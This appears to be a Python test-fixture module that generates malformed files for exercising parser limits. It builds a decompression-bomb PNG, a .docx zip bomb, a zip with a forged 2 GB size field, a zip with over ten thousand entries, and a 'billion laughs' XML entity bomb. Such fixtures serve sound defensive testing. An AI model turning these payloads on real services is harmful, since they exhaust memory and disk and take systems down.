"""Files made to harm: bombs in pictures, zips and XML (恶意文件)."""

import struct
import zipfile
import zlib
from pathlib import Path

CONTENT = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
HEAD = f'<?xml version="1.0"?><w:document xmlns:w="{SPACE}"><w:body><w:p><w:r><w:t>'
TAIL = "</w:t></w:r></w:p></w:body></w:document>"
MIB = 2**20


def huge_png(path: Path, side: int = 60_000) -> Path:
    """Write a whole black-and-white PNG of 60,000×60,000 pixels in about half a megabyte."""
    packer = zlib.compressobj(1)
    rows = bytes((side + 7) // 8 + 1) * 600
    packed = b"".join(packer.compress(rows) for _ in range(side // 600)) + packer.flush()
    about = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", about), (b"IDAT", packed), (b"IEND", b""))
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*chunk) for chunk in chunks))
    return path


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def docx(path: Path, body: str) -> Path:
    """Write a bare .docx around any XML."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("[Content_Types].xml", CONTENT)
        bundle.writestr("_rels/.rels", RELS)
        bundle.writestr("word/document.xml", body)
    return path


def zip_bomb(path: Path, mebibytes: int = 100) -> Path:
    """Write a .docx whose text swells a thousandfold."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bundle:
        bundle.writestr("_rels/.rels", RELS)
        with bundle.open("word/document.xml", "w") as part:
            part.write(HEAD.encode())
            for _ in range(mebibytes):
                part.write(b"A" * MIB)
            part.write(TAIL.encode())
    return path


def wide_bomb(path: Path) -> Path:
    """Write a .docx whose pictures claim to be 2 GB when unpacked."""
    docx(path, HEAD + TAIL)
    raw = path.read_bytes()
    with zipfile.ZipFile(path, "a") as bundle:
        bundle.writestr("word/media/a.png", b"x")
    raw = bytearray(path.read_bytes())
    entry = raw.rindex(b"PK\x01\x02")
    raw[entry + 24 : entry + 28] = struct.pack("<I", 2 * 2**30)
    path.write_bytes(raw)
    return path


def many_parts(path: Path, count: int = 10_500) -> Path:
    """Write a zip of more parts than any document has."""
    with zipfile.ZipFile(path, "w") as bundle:
        bundle.writestr("_rels/.rels", RELS)
        for number in range(count):
            bundle.writestr(f"{number}", b"")
    return path


def xml_bomb(path: Path) -> Path:
    """Write a .docx whose text is a billion laughs."""
    laughs = '<!ENTITY a0 "哈哈哈哈">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    body = f'<?xml version="1.0"?><!DOCTYPE w [{laughs}]>' + HEAD.partition("?>")[2]
    return docx(path, f"{body}&a9;{TAIL}")
